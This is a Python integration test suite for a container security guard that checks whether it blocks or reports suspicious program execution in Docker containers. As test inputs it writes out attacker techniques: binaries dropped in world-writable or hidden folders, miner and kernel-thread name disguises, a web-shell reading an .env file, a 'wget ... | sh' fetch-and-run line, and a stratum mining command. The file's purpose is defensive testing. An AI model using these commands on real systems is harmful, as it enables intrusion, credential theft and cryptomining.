#!/usr/bin/env python3
"""exec.dropped in real containers. Each attack is first tried without the guard (it must run, else its end would prove
nothing), then with it: its program must not say a word. Honest twins: test_exec_benign.py."""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from pvtest import *  # noqa: E402,F403

RUN = "exec:1"
# what, a line for the shell, why it is refused ("" as the words of the notice say it)
ATTACKS = [
    ("a copy in /tmp", "cp /bin/pvran /tmp/m && /tmp/m; echo $?", "everybody may write"),
    ("a hidden folder in /tmp", "mkdir -p /tmp/.ICEi-unix && cp /bin/pvran /tmp/.ICEi-unix/hash && /tmp/.ICEi-unix/hash", "everybody may write"),
    ("a folder named ...", "mkdir -p /tmp/... && cp /bin/pvran /tmp/.../x && cd /tmp/... && ./x", "everybody may write"),
    ("/var/tmp", "mkdir -p /var/tmp && chmod 1777 /var/tmp && cp /bin/pvran /var/tmp/d && /var/tmp/d", "everybody may write"),
    ("deep below /tmp", "d=/tmp; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28; do d=$d/a; done; "
     "mkdir -p $d && cp /bin/pvran $d/x && $d/x", "everybody may write"),
    ("an upload folder of the application", "mkdir -p /app/uploads && chmod 777 /app/uploads && cp /bin/pvran /app/uploads/a.png && "
     "/app/uploads/a.png", "everybody may write"),
    ("a link in PATH", "cp /bin/pvran /tmp/t && ln -s /tmp/t /bin/nodejs-helper && nodejs-helper", "everybody may write"),
    ("as the interpreter of a script", "mkdir -p /opt && cp /bin/pvran /tmp/i && printf '#!/tmp/i\\n' > /opt/s && chmod 755 /opt/s && /opt/s",
     "everybody may write"),
    ("by vfork", "cp /bin/pvran /tmp/v && /bin/pvran spawn /tmp/v", "everybody may write"),
    ("in the background", "cp /bin/pvran /tmp/b && { /tmp/b & wait; }", "everybody may write"),
    ("/dev", "cp /bin/pvran /dev/x && /dev/x", "file system in memory"),
    ("from memory", "/bin/pvran memory", "lies in memory"),
    ("a deleted file", "mkdir -p /opt && /bin/pvran deleted /opt/gone", "was deleted"),
    ("a miner's name", "mkdir -p /opt && cp /bin/pvran /opt/xmrig && /opt/xmrig", "miner's name"),
    ("a miner's name with its version, in node_modules", "d=/app/node_modules/next/dist/server/lib/xmrig-6.24.0; mkdir -p $d && "
     "cp /bin/pvran $d/xmrig-6.24.0 && $d/xmrig-6.24.0", "miner's name"),
    ("named like a kernel thread", "cp /bin/pvran /bin/kworkerd && kworkerd", "miner's name"),
    ("named like a daemon", "mkdir -p /usr/lib && cp /bin/pvran /usr/lib/systemd-daemon && /usr/lib/systemd-daemon", "miner's name"),
    ("over a program of the image", "cat /bin/pvran > /bin/pvdns && /bin/pvdns", "not as long as in the image"),
    ("a volume with a folder for everybody", "mkdir -p /vol/up && chmod 777 /vol/up && cp /bin/pvran /vol/up/x && /vol/up/x",
     "volume or another mount"),
    ("as the first process", None, "everybody may write"),
    ("by docker exec alone", None, "everybody may write"),
    ("as nobody", None, "everybody may write"),
]

def image(d):
    d.import_image(image_tar(extra=((helper("pvran"), "bin/pvran"), (helper("pvran"), "bin/node"), (helper("pvran"), "bin/npm"))), RUN)


def on_disk(name):
    """A folder of the host with the stand-in, to be mounted, on a file system that is no tmpfs: that would be memory."""
    path = os.path.join(REPO, "build", f"pvtest-{os.getpid()}-{name}")
    os.makedirs(path, exist_ok=True)
    os.chmod(path, 0o755)
    shutil.copy(helper("pvran"), path + "/pvran")
    return path


def attack(d, c, what, line):
    if what == "as the first process":
        one = d.run(["sh", "-c", "cp /bin/pvran /tmp/p1; exec /tmp/p1"], image=RUN)
        one.wait()
        out = one.logs()
        one.remove()
        return out
    if what == "by docker exec alone":
        c.exec("sh", "-c", "cp /bin/pvran /tmp/e")
        return c.exec("/tmp/e")
    if what == "as nobody":
        return c.exec("sh", "-c", "cp /bin/pvran /tmp/n && /tmp/n", user="65534")
    return c.exec("sh", "-c", line)


def test_attacks(tap):
    volume = on_disk("vol")
    try:
        with Dockerd() as d:
            image(d)
            binds = {"Binds": [f"{volume}:/vol"]}
            bare = d.run("sleep 1000", name="bare", image=RUN, **binds)
            got = [what for what, line, _ in ATTACKS if "RAN" not in attack(d, bare, what, line)]
            tap.eq(got, [], f"unguarded: {len(ATTACKS)} attacks run")
            bare.remove()
            shutil.rmtree(volume + "/up")
            with Guard(d, conf={"exec": {"grace": "0s"}}) as g:
                c = d.run("sleep 1000", name="box", image=RUN, **binds)
                ran = [what for what, line, _ in ATTACKS if "RAN" in attack(d, c, what, line)]
                tap.eq(ran, [], "guarded: none of their programs says a word")
                tap.ok(c.running(), "and the container itself goes on")
                time.sleep(1.5)
                told = g.notices("exec.dropped")
                missing = [what for what, _, why in ATTACKS if not any(why in n["detail"]["what"] and n["action"] == "blocked"
                                                                       for n in told)]
                tap.eq(missing, [], "each kind is told with its reason")
                n = next(n for n in told if " /tmp/m," in n["detail"]["what"])
                ev = {e["what"]: e["value"] for e in n["detail"]["evidence"]}
                tap.eq((n["subject"]["name"], n["severity"], ev["path"], ev["command"], n["next"]),
                       ("box", "high", "/tmp/m", "/tmp/m", "pavise allow box exec"), "with name, path, command and what to type")
                tap.ok("sh (" in ev["chain"], "and who started it", ev)
                counts = g.status()["counts"]
                tap.ok(counts["exec_refused"] >= len(ATTACKS) and counts["lost"] == 0, "all are counted, none was lost", counts)
                for pid in g.roles().values():
                    os.kill(pid, signal.SIGKILL)
                tap.ok("RAN" not in c.exec("sh", "-c", "cp /bin/pvran /tmp/k && /tmp/k"), "with every role just killed it is refused as well")
                c.restart()
                tap.ok("RAN" not in c.exec("sh", "-c", "/tmp/m"), "and what lay there before a restart")
    finally:
        shutil.rmtree(volume, ignore_errors=True)


def test_grace(tap):
    with Dockerd() as d:
        image(d)
        with Guard(d) as g:
            c = d.run("sleep 1000", name="young", image=RUN)
            inside = [what for what, line, why in ATTACKS if line and "everybody" not in why and "/vol" not in line and
                      "RAN" in c.exec("sh", "-c", line)]
            tap.eq(inside, [], "in the first two minutes too: memory, names, changed programs")
            tap.eq(c.exec("sh", "-c", "cp /bin/pvran /tmp/m && /tmp/m"), "RAN", "a program in /tmp runs then")
            n = g.wait_notice("exec.dropped", "young", where=lambda n: "/tmp/m" in n["detail"]["what"])
            tap.ok(n and n["action"] == "alerted" and "soon after the first start" in n["detail"]["what"], "and is told", n)


def test_shell(tap):
    """A server that starts a shell, and those of whom it is expected."""
    with Dockerd() as d:
        image(d)
        old = d.run(["node", "/app/server.js", "later", "/tmp/go", "id; true"], name="was-there", image=RUN)
        with Guard(d) as g:
            old.exec("touch", "/tmp/go")
            d.run(["node", "/app/server.js", "sh", "id; sleep 4"], name="hacked", image=RUN)
            d.run(["node", "/app/server.js", "sh", "cat /app/.env; sleep 4"], name="reads", image=RUN)
            bring = "mkdir -p /opt; cp /bin/pvran /opt/helper; /opt/helper; sleep 4"
            dropped = d.run(["node", "/app/server.js", "sh", bring], name="dropped", image=RUN)
            fetch = d.run(["node", "/app/server.js", "sh", "wget -q http://127.0.0.1:1/x | sh; sleep 4"], name="fetches", image=RUN)
            for one in (dropped, fetch):
                one.wait()
            honest = {
                "entrypoint": ["sh", "-c", "id; exec node /app/server.js"],
                "package-script": ["node", "/bin/npm", "sh", "id; cp /bin/pvran /bin/tool; /bin/tool"],
                "shell-alone": ["sh", "-c", "sh -c id"],
            }
            for name, cmd in honest.items():
                d.run(cmd, name=name, image=RUN).wait()
            c = d.run(["node", "wait", "1000"], name="checked", image=RUN)
            tap.eq(c.exec("sh", "-c", "sh -c 'mkdir -p /opt; cp /bin/pvran /opt/x; /opt/x'"), "RAN", "docker exec of a shell brings what it likes")
            g.wait_notice("exec.web-shell", "hacked")  # the Engine API knows the containers by now
            tap.ok("uid" in c.exec("node", "/app/check.js", "sh", "id"), "a server's name by docker exec, or as a health check, starts a shell")
            old.wait()
            n = g.wait_notice("exec.web-shell", "reads")
            tap.ok(n and n["severity"] == "critical" and "that reads an .env file" in n["detail"]["what"], "one that reads credentials is critical", n)
            n = g.wait_notice("exec.web-shell", "hacked")
            tap.ok(n and n["action"] == "alerted" and "node start a shell: sh -c id" in n["detail"]["what"], "a server's shell is told", n)
            ev = {e["what"]: e["value"] for e in n["detail"]["evidence"]} if n else {}
            tap.ok("node (" in ev.get("chain", ""), "with the chain", ev)
            tap.ok("RAN" not in dropped.logs(), "what it brings to an honest folder does not run, within the grace as well", dropped.logs())
            n = g.wait_notice("exec.dropped", "dropped")
            tap.ok(n and n["action"] == "blocked" and n["severity"] == "critical" and "brought by a shell" in n["detail"]["what"],
                   "and it is told why", n)
            n = g.wait_notice("exec.web-shell", "fetches", where=lambda n: "fetch" in n["detail"]["what"])
            tap.ok(n and n["severity"] == "critical", "a fetch in such a shell is critical", g.notices("exec.web-shell"))
            tap.ok(g.wait_notice("exec.web-shell", "was-there"), "also of a server that ran before the guard", g.notices("exec.web-shell"))
            time.sleep(1.2)
            told = {n["subject"]["name"] for n in g.notices("exec.web-shell")}
            tap.eq(told & (set(honest) | {"checked"}), set(), "entrypoints, package scripts, shells of shells and docker exec do not count")
            tap.eq([n["detail"]["what"] for n in g.notices("exec.dropped") if n["subject"]["name"] != "dropped" and n["action"] == "blocked"],
                   [], "and what they bring runs")


def test_miner(tap):
    """Command lines, of programs of the image as well."""
    with Dockerd() as d:
        image(d)
        with Guard(d, conf={"sample": "500ms"}) as g:
            spin = "while :; do :; done"
            d.run(["sh", "-c", spin, "x", "-o", "stratum+tcp://pool.example.org:3333"], name="mines", image=RUN, NanoCpus=int(5e8))
            d.run(["sh", "-c", spin, "x", "-o", "http://www.example.org/"], name="computes", image=RUN, NanoCpus=int(5e8))
            n = g.wait_notice("exec.miner", "mines", 30)
            tap.ok(n and n["severity"] == "critical" and "a stratum URL" in n["detail"]["what"], "a busy process with a stratum URL is told", n)
            c = d.run("sleep 1000", name="drops", image=RUN)
            c.exec("sh", "-c", "cp /bin/pvran /dev/a; /dev/a --donate-level=1; true")
            tap.ok(g.wait_notice("exec.miner", "drops"), "a dropped program by its options, though it never ran")
            tap.eq(g.notices("exec.miner", "computes"), [], "another busy one is not")


main(test_attacks, test_grace, test_shell, test_miner)
